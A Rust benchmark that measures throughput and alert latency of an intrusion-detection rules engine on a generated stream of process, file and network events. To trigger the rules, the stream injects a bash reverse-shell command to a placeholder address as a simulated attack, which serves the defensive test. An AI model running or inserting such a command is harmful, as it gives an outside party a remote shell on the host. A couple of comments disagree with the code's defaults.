//! Benchmark of the detection engine: events per second through the full default
//! ruleset on a generated stream with a realistic mix of kinds and processes, on one
//! core and through the worker pool; and the evaluation-path latency of alerts
//! (event in -> alert built) at p50/p99.
//!
//! Usage: rules_bench [RULES_DIR] [EVENTS]   (defaults: rules, 2000000)

use garrison_event::{Event, EventData, EventKind, FilePath, Protocol, Resolution, SockAddr};
use garrison_rules::fields::Ctx;
use garrison_rules::samples::sample;
use garrison_rules::{Engine, LoadOptions, Pool, RuleSet};
use std::net::{IpAddr, Ipv4Addr};
use std::sync::Arc;
use std::time::Instant;

fn path(p: &str) -> FilePath {
    FilePath {
        path: p.into(),
        host_path: None,
        resolution: Resolution::Kernel,
        raw: None,
    }
}

/// A deterministic pseudo-random stream: writes (logs, caches, build outputs),
/// execs of common tools, forks and exits, connections, DNS, unlinks, renames,
/// chmods, secret reads by their owners; one event in 2000 is an attack.
fn stream(n: usize) -> Vec<Event> {
    let mut out = Vec::with_capacity(n);
    let mut x: u64 = 0x2545_f491_4f6c_dd1d;
    let comms = [
        "nginx",
        "python3",
        "node",
        "java",
        "bash",
        "cargo",
        "rustc",
        "cc1",
        "ld",
        "git",
        "ssh",
        "systemd",
        "postgres",
        "redis-server",
        "sh",
        "make",
    ];
    let files = [
        "/var/log/nginx/access.log",
        "/home/alice/project/target/debug/deps/libx.rlib",
        "/tmp/tmp.a1b2c3",
        "/var/lib/postgresql/15/main/base/1/2619",
        "/home/alice/.cache/pip/http/x",
        "/run/user/1000/bus",
        "/var/cache/apt/pkgcache.bin",
    ];
    for i in 0..n {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        let r = (x % 1000) as usize;
        let comm = comms[(x >> 20) as usize % comms.len()];
        let mut ev = if i % 2000 == 1999 {
            // An attack: a reverse shell spawned by nginx in a container.
            let mut e = sample(EventKind::Exec);
            e.process.args = vec![
                "bash".into(),
                "-c".into(),
                "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1".into(),
            ];
            e
        } else {
            let kind = match r {
                0..=349 => EventKind::Open,
                350..=499 => EventKind::Exec,
                500..=599 => EventKind::Fork,
                600..=699 => EventKind::Exit,
                700..=799 => EventKind::Connect,
                800..=849 => EventKind::Dns,
                850..=899 => EventKind::Unlink,
                900..=929 => EventKind::Rename,
                930..=949 => EventKind::Chmod,
                950..=969 => EventKind::Accept,
                _ => EventKind::Mkdir,
            };
            let mut e = sample(kind);
            e.container = if r.is_multiple_of(3) && !matches!(comm, "bash" | "sh" | "ssh") {
                e.container
            } else {
                None
            };
            e.process.comm = comm.into();
            e.process.args = vec![comm.into(), "--serve".into(), format!("/srv/app{}", r % 7)];
            e.process.exe = Some(format!("/usr/bin/{comm}"));
            e.process.ancestors.truncate(1);
            e.process.ancestors[0].name = if r.is_multiple_of(2) {
                "systemd".into()
            } else {
                "bash".into()
            };
            e.process.uid = 1000;
            e.process.tty = if r.is_multiple_of(5) { 34816 } else { 0 };
            match &mut e.data {
                EventData::Open {
                    path: p,
                    flags,
                    flag_names,
                    ..
                } => {
                    *p = path(files[(x >> 33) as usize % files.len()]);
                    *flags = 0o2101;
                    *flag_names = vec!["O_WRONLY".into(), "O_CREAT".into(), "O_APPEND".into()];
                }
                EventData::Exec {
                    filename,
                    argv,
                    stdio,
                    ..
                } => {
                    *filename = path(&format!("/usr/bin/{comm}"));
                    *argv = e.process.args.clone();
                    *stdio = [garrison_event::FdType::CharDevice; 3];
                }
                EventData::Connect {
                    remote, protocol, ..
                } => {
                    let c = ["nginx", "python3", "node", "java", "postgres", "git"][r % 6];
                    e.process.comm = c.into();
                    e.process.exe = Some(format!("/usr/bin/{c}"));
                    e.container = None;
                    *protocol = Protocol::Tcp;
                    *remote = SockAddr::Inet {
                        ip: IpAddr::V4(Ipv4Addr::new(93, 184, (r % 200) as u8, 34)),
                        port: [443, 80, 5432, 6379][r % 4],
                    };
                }
                EventData::Dns { query, .. } => *query = format!("api{}.example.com", r % 13),
                EventData::Unlink { path: p, .. } => *p = path("/tmp/tmp.x1/partial"),
                EventData::Rename { from, to, .. } => {
                    *from = path("/home/alice/project/target/.tmpX");
                    *to = path("/home/alice/project/target/out");
                }
                EventData::Chmod { path: p, mode } => {
                    *p = path("/home/alice/project/target/debug/app");
                    *mode = 0o755;
                }
                EventData::Mkdir { path: p, .. } => {
                    *p = path("/home/alice/project/target/debug/build/x")
                }
                _ => {}
            }
            e
        };
        ev.seq = i as u64;
        ev.process.pid = 1000 + (x % 500) as u32;
        out.push(ev);
    }
    out
}

/// CPU time this thread has run, from /proc/thread-self/schedstat (ns): the
/// per-core figure stays right when other processes share the cores.
fn thread_cpu_ns() -> u64 {
    std::fs::read_to_string("/proc/thread-self/schedstat")
        .ok()
        .and_then(|s| s.split_whitespace().next().and_then(|v| v.parse().ok()))
        .unwrap_or(0)
}

fn pct(sorted: &[u64], p: f64) -> u64 {
    if sorted.is_empty() {
        return 0;
    }
    sorted[((sorted.len() as f64 - 1.0) * p).round() as usize]
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let dir = args.get(1).cloned().unwrap_or_else(|| "rules".into());
    let n: usize = args
        .get(2)
        .and_then(|s| s.parse().ok())
        .unwrap_or(1_000_000);
    let t = Instant::now();
    let set = match RuleSet::load_paths(&[dir.clone().into()], LoadOptions::default()) {
        Ok(s) => s,
        Err(e) => {
            eprintln!("{e}");
            std::process::exit(3);
        }
    };
    let load_ms = t.elapsed().as_secs_f64() * 1e3;
    let rules = set.rules().iter().filter(|r| r.enabled).count();
    // A recorded stream (the agent's `--events all` NDJSON) when given, repeated
    // to `n` events; else the generated mix.
    let recorded = args.get(3).cloned();
    let events = match &recorded {
        Some(file) => {
            let text = match std::fs::read_to_string(file) {
                Ok(t) => t,
                Err(e) => {
                    eprintln!("read the recorded stream {file}: {e}");
                    std::process::exit(3);
                }
            };
            let one: Vec<Event> = text
                .lines()
                .filter(|l| l.contains("\"kind\":\"event\""))
                .filter_map(|l| serde_json::from_str(l).ok())
                .collect();
            if one.is_empty() {
                eprintln!("{file}: no events");
                std::process::exit(3);
            }
            println!(
                "recorded stream {file}: {} events, repeated to {n}",
                one.len()
            );
            one.iter().cycle().take(n).cloned().collect()
        }
        None => stream(n),
    };

    // One core: prepare + evaluate every event against the full ruleset.
    let mut ctx = Ctx::new("bench");
    let mut st = set.state();
    let mut hits = Vec::with_capacity(64);
    let mut matched = 0usize;
    for ev in events.iter().take(10_000) {
        ctx.prepare(ev, set.needs_for(ev.kind()));
        hits.clear();
        set.matches(ev, &ctx, &mut st, &mut hits);
    }
    let t = Instant::now();
    let cpu0 = thread_cpu_ns();
    for ev in &events {
        ctx.prepare(ev, set.needs_for(ev.kind()));
        hits.clear();
        set.matches(ev, &ctx, &mut st, &mut hits);
        matched += hits.len();
    }
    let secs = t.elapsed().as_secs_f64();
    let cpu_secs = (thread_cpu_ns().saturating_sub(cpu0)) as f64 / 1e9;
    let per_core = n as f64 / cpu_secs.max(1e-9);
    // The same with every derived string built for every event (what `prepare` did
    // before it was told the needs of the event's kind): the cost of the waste.
    let t_all = Instant::now();
    let cpu_all0 = thread_cpu_ns();
    let mut matched_all = 0usize;
    for ev in &events {
        ctx.prepare(ev, set.needs());
        hits.clear();
        set.matches(ev, &ctx, &mut st, &mut hits);
        matched_all += hits.len();
    }
    let _ = t_all.elapsed();
    let cpu_all = (thread_cpu_ns().saturating_sub(cpu_all0)) as f64 / 1e9;
    let mut by_rule = std::collections::BTreeMap::new();
    for ev in events.iter().take(200_000) {
        ctx.prepare(ev, set.needs_for(ev.kind()));
        hits.clear();
        set.matches(ev, &ctx, &mut st, &mut hits);
        for &h in &hits {
            if let Some(r) = set.rule(h) {
                *by_rule.entry(r.name.clone()).or_insert(0usize) += 1;
            }
        }
    }

    // Latency: per event, event in -> alerts built (Detector::process), recorded for
    // all events and for those that alert.
    let engine = Arc::new(Engine::with_ruleset(set.clone(), vec![], "bench"));
    let mut det = engine.detector();
    let mut all = Vec::with_capacity(n.min(500_000));
    let mut alerting = Vec::new();
    let mut alerts = 0usize;
    for ev in events.iter().take(500_000) {
        let t = Instant::now();
        let mut k = 0;
        det.process(ev, |a| {
            k += 1;
            std::hint::black_box(a);
        });
        let ns = t.elapsed().as_nanos() as u64;
        all.push(ns);
        if k > 0 {
            alerting.push(ns);
            alerts += k;
        }
    }
    all.sort_unstable();
    alerting.sort_unstable();

    // The worker pool (2 workers), full path including alert building.
    let workers = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(1)
        .min(4);
    let (tx, rx) = std::sync::mpsc::sync_channel(1 << 16);
    let drain = std::thread::spawn(move || rx.iter().count());
    let t = Instant::now();
    let pool = Pool::start(&engine, workers, tx);
    for ev in events.iter().cloned() {
        let _ = pool.submit(ev);
    }
    pool.finish();
    let pool_secs = t.elapsed().as_secs_f64();
    let pool_alerts = drain.join().unwrap_or(0);

    println!("matches in the first 200k events by rule: {by_rule:?}");
    println!("rules loaded: {rules} (from {dir}, {load_ms:.1} ms)");
    if recorded.is_none() {
        println!("events: {n} (mix: 35% open, 15% exec, 10% fork, 10% exit, 10% connect, 5% dns, 15% other; 1 in 2000 an attack)");
    } else {
        let mut kinds = std::collections::BTreeMap::new();
        for ev in events.iter().take(200_000) {
            *kinds.entry(ev.kind().name()).or_insert(0usize) += 1;
        }
        println!("events: {n} (recorded; kinds in the first 200k: {kinds:?})");
    }
    println!(
        "one core, prepare+evaluate: {:.2} M events per CPU-second ({:.0} ns CPU/event; wall {:.2} M/s while sharing the cores), {matched} rule matches",
        per_core / 1e6,
        cpu_secs * 1e9 / n as f64,
        n as f64 / secs / 1e6
    );
    println!(
        "one core, every derived string prepared for every event (before per-kind needs): {:.2} M events per CPU-second ({:.0} ns CPU/event), {matched_all} rule matches",
        n as f64 / cpu_all.max(1e-9) / 1e6,
        cpu_all * 1e9 / n as f64
    );
    println!(
        "latency event->alert (all events, 500k): p50 {} ns, p99 {} ns, max {} ns",
        pct(&all, 0.5),
        pct(&all, 0.99),
        all.last().copied().unwrap_or(0)
    );
    println!(
        "latency event->alert (events that alert: {}, {alerts} alerts): p50 {} ns, p99 {} ns",
        alerting.len(),
        pct(&alerting, 0.5),
        pct(&alerting, 0.99)
    );
    println!("pool of {workers} workers incl. clone + channel + alert building: {:.2} M events/s, {pool_alerts} alerts", n as f64 / pool_secs / 1e6);
}
